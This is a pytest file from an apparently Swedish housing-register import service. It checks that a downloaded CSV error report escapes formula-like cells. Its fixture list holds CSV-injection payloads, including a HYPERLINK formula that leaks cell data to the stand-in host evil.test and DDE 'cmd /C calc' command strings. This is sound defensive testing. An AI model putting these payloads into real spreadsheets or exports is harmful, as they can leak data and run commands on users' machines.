"""An import's error report, downloaded again as CSV, keeps cells that start like a
spreadsheet formula as text (issue 14, finding 4), reports stored before the rule included."""

from __future__ import annotations

import csv
import io

import pytest

from dispatch.models import RegisterImport
from imports.service import import_register

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]
CSV = ("objektsnummer;gatuadress;postnummer;ort;lagenhetsnummer;lat;lon\n"
       "A-1;Götgatan 12B;118 46;Stockholm;1102;59,3121;18,0713\n"
       "A-2;Götgatan 9;1184;Stockholm;1202;;\n")


@pytest.fixture
def admin(auth, create_user):
    create_user(role="admin", email="admin@example.se")
    auth.login("admin@example.se")
    return auth


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_formula_cells_in_a_stored_error_report_download_as_text(
        admin, client, create_landlord, db_session, tmp_path):
    path = tmp_path / "acme.csv"
    path.write_text(CSV, encoding="utf-8")
    summary = import_register(db_session, create_landlord(code="ACME"), path, actor="admin")
    row = db_session.get(RegisterImport, summary.import_id)
    # What an error report could hold: the file's own words in its cells, written as the
    # importer writes it (csv, ';', one line per error).
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerows([(10 + n, payload, payload) for n, payload in enumerate(PAYLOADS)])
    row.error_report += out.getvalue()
    db_session.flush()

    heading, real, *forged = _cells(client.get(f"/admin/imports/{row.id}/errors.csv"))
    assert heading == ["rad", "kolumn", "fel"]
    assert real == ["3", "postnummer", "inte fem siffror: '1184'"]  # unchanged, translated
    assert forged == [[str(10 + n), "'" + p, "'" + p] for n, p in enumerate(PAYLOADS)]
